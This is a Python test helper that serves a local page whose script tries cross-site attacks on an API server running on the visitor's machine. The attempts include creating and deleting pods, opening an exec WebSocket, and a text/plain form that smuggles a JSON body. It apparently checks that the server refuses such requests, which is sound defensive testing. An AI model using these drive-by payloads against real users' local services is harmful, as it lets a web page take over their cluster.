"""A web page that attacks an API server on its visitor's machine, and its visitor."""

from __future__ import annotations

import asyncio
import json

from aiohttp import web

from tests.support.browser import browsing

POD = {
    "apiVersion": "v1",
    "kind": "Pod",
    "metadata": {"name": "planted", "namespace": "default"},
    "spec": {"restartPolicy": "Never", "containers": [{"name": "main", "image": "x", "command": ["true"]}]},
}
_SECONDS = 60.0

# requests that a page may send without the server's consent, and attempts that need it
PAGE = """
<!doctype html><title>kittens</title><body><script>
const api = %(api)s, pod = %(pod)s, pods = api + "/api/v1/namespaces/default/pods";
const results = {};
const within = (name, promise) => Promise.race([promise, new Promise(done => setTimeout(done, 8000, "no answer"))])
  .then(value => results[name] = String(value), error => results[name] = "failed: " + error.name);
const post = (type, mode) =>
  fetch(pods, {method: "POST", mode, body: new Blob([pod], {type})}).then(a => a.type + a.status);
const loaded = (tag, set) => new Promise(done => {
  const element = document.createElement(tag);
  element.onload = () => done("loaded"); element.onerror = () => done("failed");
  set(element); document.body.append(element);
});
const socket = () => new Promise(done => {
  const found = new WebSocket(pods.replace("http", "ws") + "/planted/exec");
  found.onopen = () => done("open"); found.onerror = () => done("failed");
});
const events = () => new Promise(done => {
  const found = new EventSource(pods + "?watch=true");
  found.onmessage = found.onopen = () => done("open"); found.onerror = () => { found.close(); done("failed"); };
});
const form = () => loaded("iframe", frame => {
  frame.name = "f";
  setTimeout(() => {
    const form = document.createElement("form");
    Object.assign(form, {method: "post", action: pods, target: "f", enctype: "text/plain"});
    const input = document.createElement("input");
    input.name = pod.slice(0, -1) + ',"x":"'; input.value = '"}';
    form.append(input); document.body.append(form); form.submit();
  });
});
Promise.all([
  within("untyped blob", post("", "no-cors")),
  within("text", post("text/plain", "no-cors")),
  within("json", post("application/json", "cors")),
  within("yaml", post("application/yaml", "no-cors")),
  within("delete", fetch(pods, {method: "DELETE", mode: "cors"}).then(a => a.type + a.status)),
  within("read", fetch(pods, {mode: "cors"}).then(a => a.text())),
  within("beacon", Promise.resolve(navigator.sendBeacon(pods, new Blob([pod])))),
  within("image", loaded("img", image => image.src = pods)),
  within("script", loaded("script", script => script.src = pods)),
  within("socket", socket()),
  within("events", events()),
  within("form", form()),
]).then(() => fetch("/results", {method: "POST", body: JSON.stringify(results)}));
</script>
"""


async def visit(api: str, *flags: str) -> dict[str, str]:
    """Open the page, which attacks the server at ``api``, and return the result of each attack."""
    results: asyncio.Future[dict[str, str]] = asyncio.get_running_loop().create_future()

    async def serve(request: web.BaseRequest) -> web.Response:
        if request.path == "/results":
            results.set_result(json.loads(await request.text()))
            return web.Response()
        if request.path != "/":
            return web.Response(status=404)
        page = PAGE % {"api": json.dumps(api), "pod": json.dumps(json.dumps(POD))}
        return web.Response(text=page, content_type="text/html")

    runner = web.ServerRunner(web.Server(serve), shutdown_timeout=0.1)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        async with browsing(f"http://127.0.0.1:{runner.addresses[0][1]}/", flags), asyncio.timeout(_SECONDS):
            return await results
    finally:
        await runner.cleanup()
